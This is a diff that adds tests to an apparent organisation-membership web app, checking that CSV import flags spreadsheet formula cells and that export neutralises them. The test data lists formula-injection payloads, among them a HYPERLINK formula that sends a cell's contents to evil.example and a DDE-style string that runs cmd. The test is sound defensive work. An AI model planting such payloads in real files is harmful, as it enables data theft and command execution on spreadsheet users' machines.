@@ -126,3 +126,39 @@ async def test_export_is_filtered_and_can_be_imported_again(membership: Any) -> 
     page = await membership.get("/organisations", q="export beta")
     assert page["total"] == 2
     assert {o["province"] for o in page["items"]} == {"LU"}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
+
+
+async def test_formula_cells_are_flagged_on_import_and_neutralised_on_export(membership: Any) -> None:
+    lines = ["name,kind,description,city"]
+    lines += [f'"Formula {i}",company,"{f.replace(chr(34), chr(34) * 2)}",Siena' for i, f in enumerate(FORMULAS)]
+    lines.append('"\tTabbed",company,plain text,"\tSiena"')
+    response = await _import(membership, "\n".join(lines) + "\n")
+    assert response.status_code == 201, response.text
+    warnings = response.json()["warnings"]
+    assert [(w["line"], w["column"]) for w in warnings] == [
+        (2, "description"),
+        (3, "description"),
+        (4, "description"),
+        (5, "description"),
+        (6, "name"),
+        (6, "city"),
+    ]
+    assert "formula" in warnings[0]["warning"]
+
+    exported = (await membership.http.get("/organisations/export")).text
+    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(exported))}
+    for i, formula in enumerate(FORMULAS):
+        assert rows[f"Formula {i}"]["description"] == "'" + formula
+    # Every cell of the file: none starts with a character a spreadsheet would run.
+    for row in csv.reader(io.StringIO(exported)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+async def test_plain_numbers_are_not_flagged(membership: Any) -> None:
+    response = await _import(membership, "name,kind,year,staff\nNumbers,company,2024,-0\n")
+    assert response.status_code == 201, response.text
+    assert response.json()["warnings"] == []
